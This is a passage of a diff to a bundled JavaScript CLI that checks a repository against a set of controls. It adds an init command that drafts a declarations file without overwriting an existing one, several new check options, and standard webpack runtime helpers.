             io.stdout(rulesCommand({ json: Boolean(values.json), kinds: Boolean(values.kinds), ruleDirs: extraRuleDirs }));
@@ -27375,12 +42943,13 @@ async function dispatch(argv, io) {
             throw new UsageError(`unknown command "${command}" (try --help)`);
     }
 }
-async function check(dir, values, io) {
+async function main_check(dir, values, io) {
     const format = (values.format ?? 'text');
     if (!main_FORMATS.includes(format)) {
         throw new UsageError(`--format must be one of ${main_FORMATS.join(', ')}; got "${values.format}"`);
     }
     const failOn = parseFailOn(values['fail-on']);
+    const requireDeclarations = parseRequireDeclarations(values['require-declarations']);
     const logger = {
         debug() { },
         info() { },
@@ -27393,9 +42962,16 @@ async function check(dir, values, io) {
         ...(values.rules ? { ruleDirs: values.rules } : {}),
         ...(values.rule ? { onlyRules: values.rule } : {}),
         ...(failOn ? { failOn } : {}),
+        ...(values.controls ? { controlsPath: values.controls } : {}),
+        ...(values.base ? { base: values.base } : {}),
+        ...(values['no-fail-on-gap'] ? { failOnGap: false } : values['fail-on-gap'] ? { failOnGap: true } : {}),
+        ...(requireDeclarations ? { requireDeclarations } : {}),
+        ...(values['default-branch'] ? { defaultBranch: values['default-branch'] } : {}),
         logger,
     });
-    const color = values['no-color'] ? false : (values.color ?? (io.isTTY && !values.output && !process.env.NO_COLOR));
+    const color = values['no-color']
+        ? false
+        : (values.color ?? (io.isTTY && !values.output && !process.env.NO_COLOR));
     const rendered = format === 'json'
         ? renderJson(report)
         : format === 'sarif'
@@ -27414,6 +42990,43 @@ async function check(dir, values, io) {
         io.stdout(rendered.endsWith('\n') ? rendered : `${rendered}\n`);
     }
     return report.summary.gate.result === 'fail' ? EXIT.gateFailed : EXIT.passed;
+}
+/**
+ * `init [dir]`: writes the draft declarations file. Never overwrites: an existing file is a usage
+ * error (exit 2), and the write itself is exclusive, so a file created meanwhile is not clobbered.
+ */
+async function init(dir, values, io) {
+    const root = external_node_path_namespaceObject.resolve(dir);
+    if (!(0,external_node_fs_namespaceObject.existsSync)(root))
+        throw new UsageError(`path not found or not a directory: ${dir}`);
+    const draft = await draftDeclarations({
+        root,
+        ...(values.controls ? { controlsPath: values.controls } : {}),
+        ...(values.rules ? { ruleDirs: values.rules } : {}),
+    });
+    const target = external_node_path_namespaceObject.resolve(root, draft.file);
+    const exists = () => new UsageError(`${external_node_path_namespaceObject.join(dir, draft.file)} already exists; init never overwrites it (remove it or use --controls)`);
+    if ((0,external_node_fs_namespaceObject.existsSync)(target))
+        throw exists();
+    (0,external_node_fs_namespaceObject.mkdirSync)(external_node_path_namespaceObject.dirname(target), { recursive: true });
+    try {
+        (0,external_node_fs_namespaceObject.writeFileSync)(target, draft.text, { flag: 'wx' });
+    }
+    catch (err) {
+        if (err.code === 'EEXIST')
+            throw exists();
+        throw err;
+    }
+    io.stdout(`wrote ${external_node_path_namespaceObject.join(dir, draft.file)}: ${draft.implemented.length} of 34 controls drafted as implemented (${draft.implemented.join(', ') || 'none'}), the rest as planned. Review every TODO, then commit it.\n`);
+    return EXIT.passed;
+}
+function parseRequireDeclarations(value) {
+    if (value === undefined)
+        return undefined;
+    if (value !== 'none' && value !== 'technological') {
+        throw new UsageError(`--require-declarations must be none or technological; got "${value}"`);
+    }
+    return value;
 }
 function parseFailOn(value) {
     if (value === undefined)
@@ -27550,6 +43163,36 @@ module.exports = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/dra
 /******/ 	};
 /******/ })();
 /******/ 
+/******/ /* webpack/runtime/create fake namespace object */
+/******/ (() => {
+/******/ 	var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
+/******/ 	var leafPrototypes;
+/******/ 	// create a fake namespace object
+/******/ 	// mode & 1: value is a module id, require it
+/******/ 	// mode & 2: merge all properties of value into the ns
+/******/ 	// mode & 4: return value when already ns object
+/******/ 	// mode & 16: return value when it's Promise-like
+/******/ 	// mode & 8|1: behave like require
+/******/ 	__nccwpck_require__.t = function(value, mode) {
+/******/ 		if(mode & 1) value = this(value);
+/******/ 		if(mode & 8) return value;
+/******/ 		if(typeof value === 'object' && value) {
+/******/ 			if((mode & 4) && value.__esModule) return value;
+/******/ 			if((mode & 16) && typeof value.then === 'function') return value;
+/******/ 		}
+/******/ 		var ns = Object.create(null);
+/******/ 		__nccwpck_require__.r(ns);
+/******/ 		var def = {};
+/******/ 		leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
+/******/ 		for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
+/******/ 			Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
+/******/ 		}
+/******/ 		def['default'] = () => (value);
+/******/ 		__nccwpck_require__.d(ns, def);
+/******/ 		return ns;
+/******/ 	};
+/******/ })();
+/******/ 
 /******/ /* webpack/runtime/define property getters */
 /******/ (() => {
 /******/ 	// define getter functions for harmony exports
@@ -27565,6 +43208,17 @@ module.exports = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/dra
 /******/ /* webpack/runtime/hasOwnProperty shorthand */
 /******/ (() => {
 /******/ 	__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
+/******/ })();
+/******/ 
+/******/ /* webpack/runtime/make namespace object */
+/******/ (() => {
+/******/ 	// define __esModule on exports
+/******/ 	__nccwpck_require__.r = (exports) => {
+/******/ 		if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
+/******/ 			Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
+/******/ 		}
+/******/ 		Object.defineProperty(exports, '__esModule', { value: true });
+/******/ 	};
 /******/ })();
 /******/ 
 /************************************************************************/
